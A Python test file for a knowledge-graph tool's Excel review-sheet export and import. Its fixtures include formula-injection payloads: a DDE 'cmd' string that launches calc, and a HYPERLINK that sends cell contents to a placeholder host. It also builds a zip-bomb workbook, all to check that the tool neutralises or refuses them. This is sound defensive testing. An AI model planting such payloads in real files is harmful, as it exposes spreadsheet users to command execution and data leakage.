"""Review sheets as Excel workbooks: written by `plankg review export -o FILE.xlsx`, filled the
way a reviewer does (in the workbook, with openpyxl standing in for Excel), read back by
`plankg review import`; opened by a real spreadsheet program (LibreOffice) as well."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from pathlib import Path

import pyoxigraph as ox
import pytest
from openpyxl import load_workbook

from plankg.cli import main
from plankg.review import COLUMNS, ReviewError, import_review_sheet, link_statuses, reviews

from . import test_review
from .test_review import T0, read_csv

linked, store = test_review.linked, test_review.store  # the linked store and its private copies

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A2,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
)


def _export(store_path: Path, out: Path) -> None:
    assert main(["review", "export", "-o", str(out), "--store", str(store_path)]) == 0


def test_workbook_has_header_drop_down_wrapping_and_the_csv_rows(
    store: ox.Store, tmp_path: Path
) -> None:
    from plankg.review import export_review_sheet

    xlsx, csv_path = tmp_path / "sheet.xlsx", tmp_path / "sheet.csv"
    n = export_review_sheet(store, xlsx, "xlsx")
    export_review_sheet(store, csv_path, "csv")
    wb = load_workbook(xlsx)
    ws = wb.active
    assert ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    assert header == list(COLUMNS)
    assert all(c.font.bold for c in ws[1])
    rows = [[c.value or "" for c in r] for r in ws.iter_rows(min_row=2)]
    assert len(rows) == n == len(read_csv(csv_path))
    assert [dict(zip(header, r, strict=True)) for r in rows] == read_csv(csv_path)
    decision = header.index("decision") + 1
    (dv,) = ws.data_validations.dataValidation
    assert dv.type == "list" and "accepted" in dv.formula1 and "拒绝" in dv.formula1
    letter = ws.cell(row=1, column=decision).column_letter
    assert str(dv.sqref) == f"{letter}2:{letter}{n + 1}"
    quote = header.index("source_quote") + 1
    assert ws.cell(row=2, column=quote).alignment.wrap_text
    assert ws.column_dimensions[ws.cell(row=1, column=quote).column_letter].width >= 40


def test_formula_like_text_is_a_string_cell_not_a_formula(tmp_path: Path) -> None:
    from plankg.xlsx import read_workbook, write_workbook

    path = tmp_path / "f.xlsx"
    write_workbook(path, ["quote", "decision"], [[f, ""] for f in FORMULAS])
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet  # no formula element anywhere
    ws = load_workbook(path).active
    assert [ws.cell(row=r, column=1).data_type for r in range(2, 6)] == ["s"] * 4
    assert [cells[0] for _, cells in read_workbook(path)[1:]] == list(FORMULAS)


def test_reviewer_fills_the_workbook_and_it_imports(store: ox.Store, tmp_path: Path) -> None:
    from plankg.review import export_review_sheet

    path = tmp_path / "sheet.xlsx"
    export_review_sheet(store, path, "xlsx")
    wb = load_workbook(path)
    ws = wb.active
    header = [c.value for c in ws[1]]
    col = {name: header.index(name) + 1 for name in ("link", "decision", "reviewer", "comment")}
    ws.cell(row=2, column=col["decision"], value="接受")
    ws.cell(row=2, column=col["reviewer"], value="钱七")
    ws.cell(row=2, column=col["comment"], value="=1+1 是审核人写的，不是公式")
    ws.cell(row=3, column=col["decision"], value="rejected")
    ws.cell(row=3, column=col["reviewer"], value="钱七")
    first = ws.cell(row=2, column=col["link"]).value
    second = ws.cell(row=3, column=col["link"]).value
    wb.save(path)
    report = import_review_sheet(store, path, now=T0)
    assert report.added == 2
    statuses = link_statuses(store)
    assert statuses[first] == "accepted" and statuses[second] == "rejected"
    comments = {r.link: r.comment for r in reviews(store)}
    assert comments[first] == "=1+1 是审核人写的，不是公式"  # kept as typed, never evaluated


def test_bad_workbooks_are_refused_with_the_file_named(store: ox.Store, tmp_path: Path) -> None:
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(ReviewError, match=r"broken\.xlsx.*not a readable \.xlsx"):
        import_review_sheet(store, broken)
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (201 * 1024 * 1024))
    assert bomb.stat().st_size < 2_000_000
    with pytest.raises(ReviewError, match=r"declares .* bytes unpacked"):
        import_review_sheet(store, bomb)


def test_libreoffice_opens_the_workbook(store: ox.Store, tmp_path: Path) -> None:
    """A real spreadsheet program reads the workbook: LibreOffice converts it to CSV with the
    Chinese quotes and the links intact."""
    from plankg.review import export_review_sheet

    soffice = shutil.which("soffice")
    assert soffice, "this test needs LibreOffice: apt-get install libreoffice-writer-nogui"
    path = tmp_path / "sheet.xlsx"
    n = export_review_sheet(store, path, "xlsx")
    subprocess.run(
        [
            soffice,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/lo",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path / "out"),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    rows = read_csv(tmp_path / "out" / "sheet.csv")
    assert len(rows) == n
    assert rows[0]["link"].startswith("https://w3id.org/plankg/link/")
    assert any("年" in r["source_quote"] for r in rows)
